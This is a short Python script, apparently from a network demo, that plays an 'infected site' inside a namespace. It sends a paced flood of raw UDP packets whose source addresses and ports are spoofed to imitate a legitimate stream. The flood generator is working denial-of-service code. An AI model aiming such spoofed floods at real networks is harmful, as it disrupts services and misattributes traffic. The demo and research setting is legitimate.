#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""flood.py DEVICE MBIT LENGTH: the infected site of the demo, in its namespace only.  UDP that imitates the
clean site's stream: its addresses, ports and lengths; the payload's first word is ours, so that the receiver
can count.  Paced by the millisecond, until a signal."""
import socket
import struct
import sys
import time

SOURCE, TARGET = ("10.2.0.2", 6202), ("10.9.0.2", 5202)


def packet(length):
    payload = b"floo" + bytes(length - 4)
    udp = struct.pack("!HHHH", SOURCE[1], TARGET[1], 8 + length, 0) + payload
    # Total length and checksum are the kernel's to fill in; a UDP checksum of zero is none.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0x4000, 64, socket.IPPROTO_UDP, 0,
                       socket.inet_aton(SOURCE[0]), socket.inet_aton(TARGET[0])) + udp


def main():
    device, mbit, length = sys.argv[1], float(sys.argv[2]), int(sys.argv[3])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
    frame = packet(length)
    per_second = mbit * 1e6 / 8 / len(frame)
    t0, sent = time.monotonic(), 0
    while True:
        due = int((time.monotonic() - t0) * per_second)
        # After a pause of the machine: go on, do not catch up.
        if due - sent > per_second / 10:
            sent = due
        while sent < due:
            try:
                s.sendto(frame, (TARGET[0], 0))
            except OSError:
                pass  # no room, or the way is down for a moment: a flood does not mind
            sent += 1
        time.sleep(0.001)


main()
